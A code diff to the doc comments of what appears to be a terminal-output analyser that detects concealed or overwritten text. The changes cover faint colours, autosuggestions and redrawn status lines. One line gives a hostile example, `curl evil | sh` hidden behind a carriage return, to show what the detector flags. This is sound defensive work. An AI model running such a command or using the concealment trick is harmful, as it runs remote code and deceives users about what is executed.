@@ -41,7 +41,8 @@
 //!
 //! - A line is completed by LF, VT, FF, IND, NEL, RI, by any vertical cursor move (CUU, CUD,
 //!   CNL, CPL, VPA, CUP to another row, scrolling) and by restoring a cursor saved on another
-//!   line. LF also returns the carriage (see `Screen`). Text drawn anywhere on the screen
+//!   line. LF also returns the carriage: a pty's `onlcr` has made most line feeds CR LF
+//!   already, and a bare LF comes from output without a pty. Text drawn anywhere on the screen
 //!   thus becomes lines in the order it was drawn; moving up into a completed line does not
 //!   edit it, it starts a new one. A command line that the terminal wrapped, and that the
 //!   shell edits across the wrap, is the main casualty.
@@ -51,8 +52,9 @@
 //!   `cut-lines`, so nothing is lost from the search.
 //! - One column per character: wide (CJK, emoji) and zero-width characters are one each, so
 //!   absolute columns after them are off by their width difference.
-//! - SGR: only conceal (8, 28, 0) and foreground/background colours (a foreground equal to
-//!   the background conceals too) matter. Concealed characters display as blanks.
+//! - SGR: only conceal (8, 28, 0), faint (2, 22) and foreground/background colours matter
+//!   (a foreground equal to the background conceals too; a grey one is faint). Concealed
+//!   characters display as blanks.
 //! - OSC 0/1/2 (title), 52 (clipboard, decoded) and 8 (link target) are kept as hidden text,
 //!   a repeated title once. Other OSC, DCS, SOS/PM/APC strings are dropped.
 //! - The alternate screen (`?1049h`, `?1047h`, `?47h`) is drawn into lines of its own, flagged
@@ -75,7 +77,10 @@
 //!   after a carriage return or a jump (`curl evil | sh\recho hello world`). Raises
 //!   `concealed-text`.
 //! - Runs that changed no letter (counters, percentages, progress bars, spinners) are not
-//!   kept, and raise nothing.
+//!   kept, and raise nothing. Runs whose letters were all faint or grey (a shell's
+//!   autosuggestion, erased as the user types on) are kept and raise nothing. A run whose
+//!   letters are those of the line's previous run of the same kind (a status line redrawn
+//!   in place) is kept once.
 //!
 //! These are heuristics, tuned so that a plain interactive session raises nothing; a tool that
 //! redraws words in place (some installers' status lines) can raise `concealed-text`. A flag
